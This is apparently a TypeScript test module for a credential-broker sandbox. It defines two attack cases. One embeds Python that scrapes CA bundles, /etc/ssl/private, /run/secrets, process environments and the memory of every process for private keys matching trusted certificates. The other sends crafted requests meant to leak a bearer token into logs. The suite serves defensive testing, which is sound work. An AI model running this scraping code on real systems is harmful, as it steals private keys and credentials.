import { programAttack } from "../program-attack.js";
import { askProgram, credentialParameters } from "./credentials.js";

/** Traces of a broker: its authority's key inside, and its records of requests. */
export const credentialTraces = [
  programAttack({
    id: "secrets.hidden/credential-authority",
    stoppedBy: ["credential broker"],
    title: "find the private key of an authority that programs inside trust",
    needsCredentials: true,
    program: String.raw`
import ssl, tempfile
block = re.compile(rb"-----BEGIN ([A-Z ]+)-----.+?-----END \1-----", re.S)
stores = {value for name, value in os.environ.items() if re.search("(?i)cert|cafile|cainfo|bundle", name) and os.path.isabs(value)}
stores |= {"/etc/ssl/certs/ca-certificates.crt", "/etc/pki/tls/certs/ca-bundle.crt", "/etc/ssl/cert.pem"}

def memory(process):
    with open(process + "/mem", "rb", buffering=0) as file:
        for line in content(process + "/maps").decode().split("\n"):
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            start, end = (int(part, 16) for part in parts[0].split("-"))
            try:
                file.seek(start)
                yield file.read(min(end - start, 4 << 20))
            except (OSError, ValueError, OverflowError):
                continue

def texts():
    folders = {os.path.dirname(os.path.realpath(path)) for path in stores} | {"/run/ambit", "/run/secrets", "/etc/ssl/private"}
    for folder in folders:
        # A folder that can't be listed has nothing.
        for name in next(os.walk(folder), (folder, [], []))[2]:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not name.endswith(".0"):
                yield from each_content(path)
    for path in glob.glob("/proc/[0-9]*/environ"):
        yield from each_content(path)
    for process in glob.glob("/proc/[0-9]*"):
        try:
            yield from memory(process)
        except OSError:
            continue

def each_content(path):
    try:
        yield content(path)
    except OSError:
        return

def matches(certificate, key):
    with tempfile.NamedTemporaryFile() as one, tempfile.NamedTemporaryFile() as other:
        one.write(certificate + b"\n"), one.flush(), other.write(key + b"\n"), other.flush()
        try:
            ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER).load_cert_chain(one.name, other.name, "")
            return True
        except (ssl.SSLError, ValueError):
            return False

def search():
    keys, certificates = set(), set()
    for text in texts():
        for found in block.finditer(text):
            (keys if found[1].endswith(b"PRIVATE KEY") else certificates).add(found[0])
    return " ".join({"a key that fits a trusted certificate" for key in keys for one in certificates if matches(one, key)})
attempt("authority", search)`,
  }),
  programAttack({
    id: "secrets.hidden/credential-logs",
    stoppedBy: ["credential broker"],
    title: "get a credential's value into the log or a decision through use, refusals and failures",
    needsCredentials: true,
    parameters: credentialParameters,
    program: `${askProgram}
sent = b"Authorization: Bearer " + key()
named = P["names"]["impostor"].encode()
tries = [lambda: ask(lines(b"/echo", sent)), lambda: ask(lines(b"/?key=" + key(), sent)), lambda: ask(b"GET \\0\\r\\n" + sent + b"\\r\\n\\r\\n"),
         lambda: ask(lines(b"/echo", sent, host=P["names"]["second"].encode())),
         lambda: ask(lines(b"/echo", b"Authorization: Bearer " + key("IMPOSTOR"), host=named), "impostor")]
for one in tries:
    attempt("told", lambda: one() and "")`,
    aftermath: async ({ recordedText, decoys }) =>
      [decoys.secret, btoa(decoys.secret)].some((text) => recordedText().includes(text))
        ? "the runner's log or a decision holds the value"
        : undefined,
  }),
] as const;
